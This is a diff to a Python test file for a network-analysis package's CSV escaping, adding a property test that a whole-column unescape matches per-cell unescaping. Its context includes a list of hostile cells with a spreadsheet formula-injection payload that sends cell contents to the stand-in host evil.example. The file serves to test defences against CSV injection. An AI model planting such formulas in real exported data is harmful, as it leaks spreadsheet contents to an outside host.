@@ -11,7 +11,16 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from netanalysis.cli import cli
-from netanalysis.io.csv import field_parts, quote, safe_cell, safe_frame, unsafe_cell, write_csv, write_edges_csv
+from netanalysis.io.csv import (
+    field_parts,
+    quote,
+    safe_cell,
+    safe_frame,
+    unsafe_cell,
+    unsafe_column,
+    write_csv,
+    write_edges_csv,
+)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click") China at the #BRICS',
@@ -114,6 +123,17 @@ def test_safe_cells_undo_exactly_and_never_start_a_formula(value):
     assert unsafe_cell(cell) == value
     assert not cell.startswith(FORMULA)
     assert cell == value or cell == "'" + value
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@\t\r'ab ,\"\n🇷")), max_size=6), max_size=8))
+def test_a_column_is_undone_as_each_cell_is(values):
+    # the explorer undoes a whole column of texts with one Arrow regex: the cells it changes must
+    # be exactly those unsafe_cell changes (safe cells and cells as they come both)
+    for cells in (values, [safe_cell(v) for v in values]):
+        for dtype in ("str", object):
+            got = unsafe_column(pd.Series(cells, dtype=dtype))
+            assert got.tolist() == [unsafe_cell(c) for c in cells]
 
 
 def test_the_explorer_shows_the_texts_as_they_were(hostile, tmp_path):
